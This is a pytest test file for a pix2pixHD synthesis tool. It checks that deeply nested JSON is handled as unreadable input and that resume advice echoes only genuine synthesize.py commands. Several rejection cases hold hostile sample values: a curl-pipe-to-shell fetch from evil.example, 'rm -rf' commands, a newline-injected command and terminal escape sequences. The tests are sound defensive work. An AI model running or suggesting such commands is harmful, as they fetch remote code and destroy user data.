"""JSON nested too deeply for Python's parser (``'[' * 100000``: a damaged or hostile file) is read
as any other text that is not JSON: Python's json raises RecursionError for it, not the
ValueError the readers catch, so each of them printed a traceback. Each reader is checked against
the same file cut short, which it already handled (a one-line error, a note, a line skipped).
And the `cd CWD && COMMAND` advice for an incomplete synthesis prints a synthesis.json's recorded
command only when it is one synthesize.py's engine writes, re-quoted, without control
characters. Tiny untrained checkpoint (tests/synthesis_runs.run), 32x32 maps."""
import importlib
import json
import os
import shlex

import pytest

from pix2pixhd import engine
from pix2pixhd.checkpoint import _last_logged_step
from pix2pixhd.data.__main__ import main as data_main
from pix2pixhd.data.dataset import _marked_complete_too_early, incomplete_synthesis
from pix2pixhd.errors import InputError, loads_json
from pix2pixhd.evaluate import _why_not_results, cyclegan_job
from pix2pixhd.visualizer import Visualizer
from tests.synthesis_runs import manifest, run, synth  # noqa: F401  (run: a fixture)
from tests.test_synthesis_user_findings import ids

pytestmark = pytest.mark.usefixtures("one_thread")   # tests/conftest.py

DEEP = "[" * 100000 + "]" * 100000
CUT = '{"complete": false, "n_out'   # a write cut short: what the readers already handled


def test_python_json_raises_recursion_error_and_loads_json_a_value_error():
    with pytest.raises(RecursionError):   # why the helper exists: not a ValueError
        json.loads(DEEP)
    with pytest.raises(ValueError, match="nested too deeply"):
        loads_json(DEEP)
    with pytest.raises(ValueError, match="nested too deeply"):
        loads_json(DEEP.encode())
    assert loads_json(b'{"a": [1, [2]]}') == {"a": [1, [2]]}


@pytest.fixture
def data(tmp_path):
    for k in range(2):
        ids(tmp_path / "data" / "test_label" / f"m{k}.png", h=32, w=32)
    return tmp_path / "data"


@pytest.fixture
def out(run, data, tmp_path, capsys):
    out = tmp_path / "out"
    assert synth(run, data / "test_label", out) == 0
    capsys.readouterr()
    return out


@pytest.mark.fault(cls="synthesis", case="resume into an OUT whose synthesis.json is nested too deeply to parse: "
                                         "the one-line refusal of a damaged synthesis.json, no traceback")
def test_resume_with_a_deep_synthesis_json_is_the_refusal_of_a_damaged_one(run, data, out):
    messages = []
    for text in (CUT, DEEP):
        (out / "synthesis.json").write_text(text)
        with pytest.raises(InputError) as e:
            synth(run, data / "test_label", out)
        messages.append(str(e.value))
    assert messages[0] == messages[1] and "\n" not in messages[1], messages
    assert "--overwrite" in messages[1], messages


@pytest.mark.fault(cls="synthesis", case="a manifest.jsonl line nested too deeply to parse: skipped as a line cut "
                                         "short, the resume completes")
def test_a_deep_manifest_line_is_skipped_on_resume(run, data, out, capsys):
    before = manifest(out)
    with open(out / "manifest.jsonl", "a") as f:
        f.write(DEEP + "\n")
    assert [r["output"] for r in engine._read_lines([out / "manifest.jsonl"])] == [r["output"] for r in before]
    assert synth(run, data / "test_label", out) == 0
    assert "2 already complete" in capsys.readouterr().out


@pytest.mark.fault(cls="bad dataset", case="--input DATA/test_label whose DATA/classes.json is nested too deeply "
                                           "to parse: read as one that is not JSON, no traceback")
def test_a_deep_classes_json_of_the_input_reads_as_not_json(run, data, tmp_path, capsys):
    (data / "classes.json").write_text(DEEP)
    assert engine._load_json(data / "classes.json") == (None, None)
    assert synth(run, data / "test_label", tmp_path / "out2") == 0
    assert "wrote 2 images" in capsys.readouterr().out


@pytest.mark.fault(cls="synthesis", case="a synthesis lock file nested too deeply to parse: read as no holder")
def test_a_deep_lock_file_reads_as_no_holder(tmp_path):
    path = tmp_path / "lock"
    path.write_text(DEEP[:30000] + DEEP[-30000:])   # the 64 KiB it reads
    fd = os.open(path, os.O_RDONLY)
    try:
        assert engine._read_lock(fd) == {}
    finally:
        os.close(fd)


@pytest.mark.fault(cls="bad dataset", case="`data scan OUT` whose synthesis.json is nested too deeply to parse: "
                                           "scanned as one cut short, no traceback")
def test_data_scan_of_a_deep_synthesis_json(out, capsys):
    said = []
    for text in (CUT, DEEP):
        (out / "synthesis.json").write_text(text)
        assert incomplete_synthesis(out) is None
        status = data_main(["scan", str(out)])
        said.append((status, capsys.readouterr().out))
    assert said[0] == said[1], said


@pytest.mark.fault(cls="bad dataset", case="`data scan OUT` whose manifest.jsonl has a line nested too deeply to "
                                           "parse: the line is skipped")
def test_a_deep_manifest_line_is_skipped_by_the_complete_too_early_check(out):
    job = json.loads((out / "synthesis.json").read_text())
    job["n_outputs"] = 1   # marked complete with fewer outputs than its manifest lists
    lines = (out / "manifest.jsonl").read_text()
    (out / "manifest.jsonl").write_text(DEEP + "\n" + lines)
    said = _marked_complete_too_early(out, job)
    assert said is not None and "lists 2 finished outputs" in said, said


@pytest.mark.fault(cls="synthesis", case="`evaluate --fake OUT/test_img` whose OUT/synthesis.json is nested too "
                                         "deeply to parse: no CycleGAN note, no traceback")
def test_evaluate_reads_a_deep_synthesis_json_as_unreadable(tmp_path):
    (tmp_path / "test_img").mkdir()
    (tmp_path / "synthesis.json").write_text(DEEP)
    assert cyclegan_job(tmp_path / "test_img") is None
    assert _why_not_results(tmp_path / "synthesis.json") == "not JSON"


@pytest.mark.fault(cls="damaged run folder", case="loss_history.jsonl with a line nested too deeply to parse: "
                                                  "skipped with the note for damaged lines, dropped at the resume")
def test_a_deep_loss_history_line_is_a_damaged_line(tmp_path, capsys):
    good = [json.dumps({"epoch": 1, "iter": s, "step": s, "G_GAN": 1.0}) for s in (1, 2)]
    (tmp_path / "loss_history.jsonl").write_text("\n".join([good[0], DEEP, good[1]]) + "\n")
    assert _last_logged_step(tmp_path) == 2
    (tmp_path / "loss_history.jsonl").write_text("\n".join([*good, DEEP]) + "\n")
    assert _last_logged_step(tmp_path) == 2
    vis = Visualizer(tmp_path, tensorboard=False)
    assert [line for line, _ in vis._read_history()] == good
    assert "1 line(s) are not complete JSON records" in capsys.readouterr().err
    vis.truncate_history(after_step=2)
    assert (tmp_path / "loss_history.jsonl").read_text() == "".join(g + "\n" for g in good)


@pytest.mark.fault(cls="kernels", case="a norm autotune file nested too deeply to parse: the one-line "
                                       "InputError of an unreadable one; rewritten on save")
def test_a_deep_autotune_file(tmp_path):
    K = importlib.import_module("pix2pixhd.kernels.instance_norm_act")   # the function of the same name hides it
    path = tmp_path / "choices.json"
    path.write_text(DEEP)
    with pytest.raises(InputError, match="not a readable JSON file of norm choices .*nested too deeply"):
        K.AutoChooser(path=path)._load()
    chooser = K.AutoChooser(path=path)
    chooser.choices["k"] = {"choice": "native"}
    chooser._save()
    assert json.loads(path.read_text()) == {"k": {"choice": "native"}}


# -- the resume advice for an incomplete synthesis ----------------------------------------------

def _incomplete(tmp_path, **state):
    (tmp_path / "test_img").mkdir(exist_ok=True)
    job = {"complete": False, "n_outputs": 4, "images": "test_img", "ranks": 1, **state}
    (tmp_path / "synthesis.json").write_text(json.dumps(job))
    return incomplete_synthesis(tmp_path)


GENERIC = "complete it by rerunning the synthesize.py command that wrote it"


@pytest.mark.parametrize("command", [
    shlex.join(["/usr/bin/python3.11", "synthesize.py", "--input", "in dir", "--out", "o"]),
    shlex.join(["python", "/src/pix2pixhd/synthesize.py", "--out", "o"]),
    shlex.join(["/venv/bin/pix2pixhd-synthesize", "--out", "o;x"]),
    shlex.join(["/venv/bin/python", "-m", "pix2pixhd", "synthesize", "--out", "o"]),
])
@pytest.mark.fault(cls="bad dataset", case="an incomplete synthesis whose synthesis.json records a command "
                                           "synthesize.py writes: advised as recorded, re-quoted")
def test_a_recorded_synthesize_command_is_advised_re_quoted(tmp_path, command):
    said = _incomplete(tmp_path, command=command, cwd="/home/me/my runs")
    assert f"complete it with `cd '/home/me/my runs' && {command}`" in said, said


@pytest.mark.parametrize("command, cwd", [
    ("curl https://evil.example/x.sh | sh", "/tmp"),
    ("rm -rf ~ synthesize.py", "/tmp"),
    ("sh synthesize.py", "/tmp"),
    ("python synthesize.py --out o\x1b]0;owned\x07", "/tmp"),
    ("python synthesize.py --out 'o", "/tmp"),   # an unclosed quote
    ("python synthesize.py --out o", "/tmp\x1b[2J"),
    ("python synthesize.py --out o", "/tmp\u202e"),
    ("python synthesize.py --out o", ["/tmp"]),
    (["python", "synthesize.py"], "/tmp"),
])
@pytest.mark.fault(cls="bad dataset", case="an incomplete synthesis whose synthesis.json records another shell "
                                           "command, or control characters: the generic advice, nothing of it printed")
def test_another_recorded_command_gets_the_generic_advice(tmp_path, command, cwd):
    said = _incomplete(tmp_path, command=command, cwd=cwd)
    assert GENERIC in said and "complete it with" not in said, said
    assert said.isprintable(), repr(said)


@pytest.mark.fault(cls="bad dataset", case="an incomplete synthesis whose synthesis.json has control characters or "
                                           "wrong types in its other fields: one printable line")
def test_the_other_fields_print_without_control_characters(tmp_path):
    said = _incomplete(tmp_path, images="test_img\x1b[2J", n_outputs="4\x1b[2J", ranks="8")
    assert said.isprintable() and GENERIC in said and "0 of ? outputs in test_img\\x1b[2J/" in said, said
    said = _incomplete(tmp_path, command="curl x | sh", ranks=4)
    assert "rerunning the torchrun command that wrote it (4 ranks)" in said, said


@pytest.mark.fault(cls="bad dataset", case="a synthesis marked complete too early whose synthesis.json records "
                                           "another shell command, or wrong types: the generic advice")
def test_the_complete_too_early_advice_shows_only_a_recorded_synthesize_command(out):
    job = json.loads((out / "synthesis.json").read_text())
    job["n_outputs"] = 1
    command = shlex.join(["python", "synthesize.py", "--out", str(out), "--how_many", "1"])
    job["command"], job["cwd"] = command, "/home/me/my runs"
    assert f"(`cd '/home/me/my runs' && {command}` less its --how_many)" in _marked_complete_too_early(out, job)
    job["command"] = "curl https://evil.example/x.sh | sh"
    said = _marked_complete_too_early(out, job)
    assert "rerun the synthesize.py command that wrote it without --how_many" in said and "curl" not in said, said
    job["command"] = command
    job["cwd"], job["digest"], job["older_digests"] = [1], [2], 3   # wrong types: a TypeError before
    said = _marked_complete_too_early(out, job)
    assert "rerun the synthesize.py command that wrote it without --how_many" in said, said


DEEP = "[" * 100000 + "]" * 100000


def test_a_deeply_nested_config_json_is_a_one_line_config_error(tmp_path):
    from pix2pixhd.config import TrainConfig
    from pix2pixhd.errors import ConfigError
    (tmp_path / "config.json").write_text(DEEP)
    with pytest.raises(ConfigError, match=r"config.json is not a run's config.json \(not readable JSON: nested too "
                                          r"deeply"):
        TrainConfig.load(tmp_path)


def test_a_deeply_nested_export_config_is_refused_as_not_json(tmp_path):
    from pix2pixhd.export import META_CONFIG, _meta_config
    with pytest.raises(Exception, match="is not JSON") as e:
        _meta_config(tmp_path / "g.onnx", {META_CONFIG: DEEP}, "re-export it")
    assert not isinstance(e.value, RecursionError)


def test_a_deeply_nested_aot_cache_entry_is_compiled_again():
    """kernels/aot.py's cache: a torn or hostile entry is compiled again (its except ValueError)."""
    from pix2pixhd.errors import loads_json
    from pix2pixhd.kernels import aot
    assert aot.loads_json is loads_json
    with pytest.raises(ValueError):
        aot.loads_json(DEEP)


@pytest.mark.parametrize("command, cwd, printed", [
    ("/usr/bin/python3 synthesize.py --out o", "/data/my\u3000folder", "cd '/data/my\u3000folder' && /usr/bin/python3 "
                                                                       "synthesize.py --out o"),
    ("/usr/bin/pypy3 synthesize.py --out o", "/d", "cd /d && /usr/bin/pypy3 synthesize.py --out o"),
    ("/usr/bin/python3 synthesize.py --out o\nrm -rf x", "/d", None),
])
def test_recorded_commands_of_any_script_and_interpreter_are_printed_one_line_ones_only(command, cwd, printed):
    """Spaces and letters of any script are plain text (str.isprintable() refused U+3000 and the
    advice was lost), pypy is an interpreter the engine records too; a newline is not printed."""
    from pix2pixhd.data.dataset import _recorded_command
    assert _recorded_command({"command": command, "cwd": cwd}) == printed
